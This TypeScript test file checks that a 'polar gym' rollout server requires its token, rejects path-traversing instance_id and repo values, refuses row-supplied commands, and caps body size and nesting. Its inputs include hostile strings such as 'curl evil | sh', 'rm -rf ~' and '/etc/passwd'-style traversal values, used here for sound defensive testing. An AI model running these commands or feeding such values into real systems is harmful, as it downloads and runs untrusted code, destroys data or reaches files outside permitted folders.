/**
 * Issue 17, items 2 and 7, over real requests on 127.0.0.1: polar gym requires its bearer token, refuses
 * a row whose instance_id or repo would leave their folders (the climb looked for where it would land,
 * inside the test's own folder whatever TMPDIR is) and a row carrying its own commands or image (unless
 * --trust-row-commands), reads small bodies only, and a bounded number of them at once.
 */
import assert from 'node:assert/strict';
import { existsSync, mkdirSync } from 'node:fs';
import { readdir } from 'node:fs/promises';
import { connect } from 'node:net';
import { join, relative, resolve } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { Backend } from '../../../src/backends/types.ts';
import { type Gym, type GymOptions, startGym } from '../../../src/gym/server.ts';
import { DEFAULTS } from '../../../src/options/defaults.ts';
import { parseRow } from '../../../src/rollout/dataset.ts';
import { LocalRuntime } from '../../../src/rollout/runtime/local.ts';
import { insideDir, isRepoName, isSafeName, UnsafePathError } from '../../../src/util/safe-path.ts';
import { tempDir } from '../../support/temp.ts';

const unusedBackend: Backend = {
  kind: 'tokens',
  tokenExact: true,
  url: null,
  async *generate() {
    yield { type: 'error', error: { kind: 'internal', message: 'not called in these tests', status: 500 } };
  },
  async countTokens() {
    return { tokens: 0, exact: true };
  },
  async close() {},
};

/** The folders a gym is given below its own fresh folder: --out is `OUT/runs`, the repositories `OUT/repos`. */
const OUT = ['a', 'a/b', 'a/b/c', 'a/b/c/d'];
const GIVEN = [...OUT, 'a/b/c/d/repos', 'a/b/c/d/runs'];

/**
 * A gym whose --out (`out`/runs) and repositories (`out`/repos) sit four folders down in a fresh folder
 * (`root`): a name that climbs four levels out of any folder the gym writes in lands inside root, where
 * a test can look, whatever TMPDIR is (with one folder of its own in TMPDIR, such a name would land in
 * TMPDIR itself or above it, next to other programs' files).
 */
async function gymWith(extra: Partial<GymOptions> = {}): Promise<{ gym: Gym; out: string; root: string }> {
  const root = tempDir('polar-gym-hard-');
  const out = join(root, OUT.at(-1)!);
  mkdirSync(join(out, 'repos'), { recursive: true });
  const gym = await startGym({
    harness: 'pi',
    backend: { kind: 'tokens', model: 'Qwen/Qwen3-4B' },
    backendInstance: unusedBackend,
    runtime: new LocalRuntime({ reposDir: join(out, 'repos') }),
    placement: 'host',
    out: join(out, 'runs'),
    port: 0,
    ...extra,
  });
  return { gym, out, root };
}

const instance = (over: Record<string, unknown> = {}) => ({
  instance_id: 'owner__name-1',
  repo: 'owner/name',
  base_commit: 'abcdef1',
  patch: '',
  test_patch: '',
  problem_statement: 'fix it',
  FAIL_TO_PASS: ['t'],
  PASS_TO_PASS: [],
  ...over,
});
const rowWith = (inst: Record<string, unknown>) => ({
  responses_create_params: { input: 'fix it' },
  verifier_metadata: { instance: inst },
});

describe('polar gym: token, rows, bodies', () => {
  let gym: Gym;
  let out: string;
  let root: string;
  before(async () => {
    ({ gym, out, root } = await gymWith());
  });
  after(() => gym.close());

  const post = (path: string, body: unknown, token: string | null = gym.token) =>
    fetch(`${gym.url}${path}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...(token ? { authorization: `Bearer ${token}` } : {}) },
      body: typeof body === 'string' ? body : JSON.stringify(body),
    });
  const message = async (r: Response) => ((await r.json()) as { error: { message: string } }).error.message;

  test('a token is made when none is given; every route but /health needs it', async () => {
    assert.match(gym.token ?? '', /^polar-gym-.{20,}/);
    for (const token of [null, 'wrong', `${gym.token}x`]) {
      const r = await post('/aggregate_metrics', { verify_responses: [] }, token);
      assert.equal(r.status, 401, String(token));
      await r.text();
    }
    assert.equal((await post('/aggregate_metrics', { verify_responses: [] })).status, 200);
    assert.equal((await fetch(`${gym.url}/health`)).status, 200);
  });

  test('an instance_id that climbs out of --out is refused; nothing is written', async () => {
    const climb = '../../../../x/pwned';
    // where it would land from --out, from a rollout's folder in it, or from its captures/: inside root
    for (const from of ['runs', 'runs/t0-r0', 'runs/t0-r0/captures', 'repos'])
      assert.ok(!relative(root, resolve(out, from, climb)).startsWith('..'), from);
    for (const id of [climb, '..', 'a/b', 'a\\b', '']) {
      const r = await post('/run', rowWith(instance({ instance_id: id })));
      assert.equal(r.status, 400, id);
      assert.match(await message(r), /instance_id/);
    }
    // nothing anywhere in root but the folders the gym was given, and no rollout folder in --out
    const made = (await readdir(root, { recursive: true })).sort();
    assert.deepEqual(
      made.filter((p) => !GIVEN.includes(p)),
      [],
    );
    assert.deepEqual(existsSync(join(out, 'runs')) ? await readdir(join(out, 'runs')) : [], []);
  });

  test('a repo that is not owner/name (.., a path) is refused', async () => {
    for (const repo of ['../other', 'owner/..', 'a/b/c', '/etc/x', 'owner']) {
      const r = await post('/run', rowWith(instance({ repo })));
      assert.equal(r.status, 400, repo);
      assert.match(await message(r), /repo.*owner\/name/);
    }
  });

  test("a row's test_cmd, eval_script, grader or image is refused without --trust-row-commands", async () => {
    for (const [field, value] of [
      ['test_cmd', 'curl evil | sh'],
      ['eval_script', 'rm -rf ~'],
      ['grader', 'curl evil | sh'],
      ['image', 'evil/image'],
    ] as const) {
      const r = await post('/run', rowWith(instance({ [field]: value })));
      assert.equal(r.status, 403, field);
      assert.match(await message(r), new RegExp(`${field}.*--trust-row-commands`));
    }
  });

  test('a body nested 200k deep is 400 before any rollout runs, wherever the field sits (issue 22, item 8)', async () => {
    const deep = `${'['.repeat(200_000)}${']'.repeat(200_000)}`;
    const row = JSON.stringify(rowWith(instance())).replace(/}$/, `,"extra":${deep}}`);
    for (const [path, body] of [
      ['/run', row],
      ['/v1/responses', `{"input":"fix it","metadata":${deep}}`],
      ['/aggregate_metrics', `{"verify_responses":[{"x":${deep}}]}`],
    ] as const) {
      const r = await post(path, body);
      assert.equal(r.status, 400, path);
      assert.match(await message(r), /nests deeper than 256 levels/);
    }
    // nothing ran: no rollout folder
    assert.deepEqual(existsSync(join(out, 'runs')) ? await readdir(join(out, 'runs')) : [], []);
  });

  test('the default body limit is small: a 17 MiB body is 413', async () => {
    assert.ok(DEFAULTS.gymMaxBodyBytes.value <= 16 * 1024 * 1024);
    const big = JSON.stringify({ verify_responses: [{ pad: 'x'.repeat(17 * 1024 * 1024) }] });
    const r = await post('/aggregate_metrics', big);
    assert.equal(r.status, 413);
    await r.text();
  });
});

describe('polar gym: bodies read at once are bounded', () => {
  test('with one read slot, a second body waits until the first is read', async () => {
    const { gym } = await gymWith({ maxBodyReads: 1 });
    try {
      const port = Number(new URL(gym.url).port);
      const socket = connect(port, '127.0.0.1');
      let answer = '';
      socket.on('data', (d) => {
        answer += d.toString();
      });
      const body = JSON.stringify({ verify_responses: [] });
      await new Promise((r) => socket.once('connect', r));
      socket.write(
        `POST /aggregate_metrics HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${gym.token}\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n${body.slice(0, 5)}`,
      );
      const health = async () =>
        ((await (await fetch(`${gym.url}/health`)).json()) as { body_reads_queued: number })
          .body_reads_queued;
      const second = fetch(`${gym.url}/aggregate_metrics`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: `Bearer ${gym.token}` },
        body,
      });
      while ((await health()) !== 1) await new Promise((r) => setTimeout(r, 10));
      socket.write(body.slice(5));
      assert.equal((await second).status, 200);
      while (!answer.includes('\r\n\r\n')) await new Promise((r) => setTimeout(r, 10));
      assert.match(answer, /^HTTP\/1\.1 200/);
      assert.equal(await health(), 0);
      socket.destroy();
    } finally {
      await gym.close();
    }
  });

  test('--no-auth (token: null) serves without a token', async () => {
    const { gym } = await gymWith({ token: null });
    try {
      assert.equal(gym.token, null);
      const r = await fetch(`${gym.url}/aggregate_metrics`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ verify_responses: [] }),
      });
      assert.equal(r.status, 200);
    } finally {
      await gym.close();
    }
  });
});

describe('names from data that become paths (eval, gym, serve, loop)', () => {
  test('safe names, repo names, and paths that stay inside their folder', () => {
    for (const ok of ['django__django-11099', 'getmoto__moto.694ce1f4.pr_7331', 'a', '.hidden'])
      assert.equal(isSafeName(ok), true, ok);
    for (const bad of ['', '.', '..', '...', 'a/b', 'a\\b', 'a b', 'x\u0000', 'é', 'a'.repeat(201)])
      assert.equal(isSafeName(bad), false, JSON.stringify(bad));
    assert.equal(isRepoName('astropy/astropy'), true);
    for (const bad of ['../other', 'owner/..', './x', 'a/b/c', 'a', '/a'])
      assert.equal(isRepoName(bad), false, bad);
    assert.equal(insideDir('/srv/out', 'x.jsonl'), '/srv/out/x.jsonl');
    for (const parts of [['..', 'x'], ['a/../../x'], ['/etc/passwd'], ['.']])
      assert.throws(() => insideDir('/srv/out', ...parts), UnsafePathError);
  });

  test('a dataset row (polar eval, polar loop) with a climbing instance_id names the file, line and field', () => {
    assert.throws(
      () => parseRow('rows.jsonl', 3, instance({ instance_id: '../../etc/x' })),
      /rows\.jsonl:3: instance_id: .*file name/,
    );
    assert.throws(() => parseRow('rows.jsonl', 4, instance({ repo: '../other' })), /rows\.jsonl:4: repo: /);
  });
});
